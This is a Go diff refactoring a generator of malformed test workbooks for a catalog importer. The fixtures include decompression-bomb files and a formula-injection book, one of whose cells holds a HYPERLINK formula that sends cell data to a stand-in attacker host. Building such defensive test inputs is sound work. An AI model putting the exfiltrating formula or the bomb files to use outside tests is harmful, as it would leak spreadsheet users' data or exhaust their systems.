@@ -190,32 +190,43 @@ func zipPart(zw *zip.Writer, p part) error {
 	return err
 }
 
+// workbook is a hand-built workbook: its file name and its parts.
+type workbook struct {
+	name  string
+	parts []part
+}
+
 // workbooks are the .xlsx (and .xls) files.
 func workbooks(catalogs string) ([]file, error) {
 	headRow := textRow(1, strings.Split(header, ","))
 	goodRows := rowsXML(2, csvRows(good...))
-	capRows := func(broken string) string {
-		return goodRows + textRow(5, strings.Split(capFirst, ",")) + broken + textRow(7, strings.Split(bag, ","))
-	}
-	capCells := strings.Split(capRow(""), ",")
-	capCell := func(i int) string { return textCell(fmt.Sprintf("%s6", colName(i)), capCells[i]) }
-	capLine := func(extra string) string { // the cap's second row, extra after its cells
-		var b strings.Builder
-		b.WriteString(`<row r="6">`)
-		for i, c := range capCells {
-			if c != "" {
-				b.WriteString(capCell(i))
-			}
-		}
-		return b.String() + extra + "</row>"
-	}
 	base := bookParts(headRow+goodRows, `<si><t>Linen</t></si>`)
+	out, err := zipBooks(brokenBooks(base, headRow, goodRows))
+	if err != nil {
+		return nil, err
+	}
+	book, err := zipParts(base)
+	if err != nil {
+		return nil, err
+	}
+	odd, err := oddFiles(book)
+	if err != nil {
+		return nil, err
+	}
+	out = append(out, odd...)
+	saved, err := savedCatalogs(catalogs)
+	if err != nil {
+		return nil, err
+	}
+	return append(out, saved...), nil
+}
+
+// brokenBooks are the workbooks built from base, the valid one whose sheet
+// holds headRow and goodRows: bombs, a broken cap and the odd ones out.
+func brokenBooks(base []part, headRow, goodRows string) []workbook {
 	const mib = 1 << 20
 	bigCells := `<c t="inlineStr"><is><t>` + strings.Repeat("y", 600<<10) + `</t></is></c>`
-	specs := []struct {
-		name  string
-		parts []part
-	}{
+	return []workbook{
 		// 16 MiB of spaces between the header and the first product.
 		{"bomb-sheet-whitespace.xlsx", with(base, sheet(headRow, " ", 16*mib, goodRows))},
 		// A cell of 16 MiB.
@@ -232,30 +243,42 @@ func workbooks(catalogs string) ([]file, error) {
 		{"bomb-sheet-declared.xlsx", with(base, part{name: "xl/worksheets/sheet1.xml", head: sheetHead + headRow + sheetTail, declared: 5 << 30})},
 		// The cap's second row has a description referring to shared
 		// string 99 of 1.
-		{"shared-string-range.xlsx", with(base, sheet(headRow, "", 0, capRows(strings.Replace(capLine(""), `</row>`, `<c r="G6" t="s"><v>99</v></c></row>`, 1))))},
+		{"shared-string-range.xlsx", with(base, sheet(headRow, "", 0, capRows(goodRows, capLine(`<c r="G6" t="s"><v>99</v></c>`))))},
 		// The cap's second row has a cell in column Z, beyond the header.
-		{"too-many-cells.xlsx", with(base, sheet(headRow, "", 0, capRows(capLine(textCell("Z6", "extra")))))},
+		{"too-many-cells.xlsx", with(base, sheet(headRow, "", 0, capRows(goodRows, capLine(textCell("Z6", "extra")))))},
 		{"header-only.xlsx", with(base, sheet(headRow, "", 0, ""))},
 		dateBook(),
 		formulaBook(headRow),
 	}
+}
+
+// capRows are goodRows, the cap's first row, broken in place of its
+// second row (row 6), and the bag after it.
+func capRows(goodRows, broken string) string {
+	return goodRows + textRow(5, strings.Split(capFirst, ",")) + broken + textRow(7, strings.Split(bag, ","))
+}
+
+// capLine is the cap's second row (row 6) with extra after its cells.
+func capLine(extra string) string {
+	return strings.TrimSuffix(textRow(6, strings.Split(capRow(""), ",")), "</row>") + extra + "</row>"
+}
+
+// zipBooks are the files of books, zipped.
+func zipBooks(books []workbook) ([]file, error) {
 	var out []file
-	for _, s := range specs {
+	for _, s := range books {
 		b, err := zipParts(s.parts)
 		if err != nil {
 			return nil, fmt.Errorf("%s: %w", s.name, err)
 		}
 		out = append(out, file{s.name, b})
 	}
-	book, err := zipParts(base)
-	if err != nil {
-		return nil, err
-	}
-	odd, err := oddFiles(book)
-	if err != nil {
-		return nil, err
-	}
-	out = append(out, odd...)
+	return out, nil
+}
+
+// savedCatalogs are two real catalog exports of catalogs saved as .xlsx.
+func savedCatalogs(catalogs string) ([]file, error) {
+	var out []file
 	for _, c := range []string{"shopify-apparel", "woocommerce-sample-products"} {
 		b, err := savedAsXLSX(filepath.Join(catalogs, c+".csv"))
 		if err != nil {
@@ -269,10 +292,7 @@ func workbooks(catalogs string) ([]file, error) {
 // dateBook is a catalog with a date column "made" shown with its time of
 // day (cell style 2), read through date.yaml: the cap's second row was
 // made at 14:30, which no date target takes.
-func dateBook() struct {
-	name  string
-	parts []part
-} {
+func dateBook() workbook {
 	cols := append(strings.Split(header, ","), "made")
 	madeCol := colName(len(cols) - 1)
 	var rows strings.Builder
@@ -286,27 +306,18 @@ func dateBook() struct {
 		}
 		rows.WriteString(row)
 	}
-	return struct {
-		name  string
-		parts []part
-	}{"date-time.xlsx", bookParts(rows.String(), `<si><t>Linen</t></si>`)}
+	return workbook{"date-time.xlsx", bookParts(rows.String(), `<si><t>Linen</t></si>`)}
 }
 
 // formulaBook holds text that a spreadsheet program would run as a
 // formula were it written to a CSV file as is, and a real formula cell.
-func formulaBook(headRow string) struct {
-	name  string
-	parts []part
-} {
+func formulaBook(headRow string) workbook {
 	rows := headRow +
 		textRow(2, strings.Split(`=HYPERLINK("http://evil.example/?d="&A1;"Mug"),Enamel Mug,,,kitchen,@SUM(1+1),,0.3,2.5,,10,,,,,,,12,6`, ",")) +
 		`<row r="3">` + textCell("A3", "tee") + `<c r="B3" t="str"><f>UPPER("Linen Tee")</f><v>LINEN TEE</v></c>` +
 		textCell("F3", "+TEE-S") + textCell("H3", "0.2") + textCell("L3", "Size") + textCell("M3", "S") + textCell("R3", "20") + `</row>` +
 		textRow(4, strings.Split(`tee,,,,,-TEE-M,,0.2,5,,4,Size,M,,,,,20,10`, ","))
-	return struct {
-		name  string
-		parts []part
-	}{"formula.xlsx", bookParts(rows, `<si><t>Linen</t></si>`)}
+	return workbook{"formula.xlsx", bookParts(rows, `<si><t>Linen</t></si>`)}
 }
 
 // oddFiles are files named .xlsx (and an .xls) that are no workbook, or
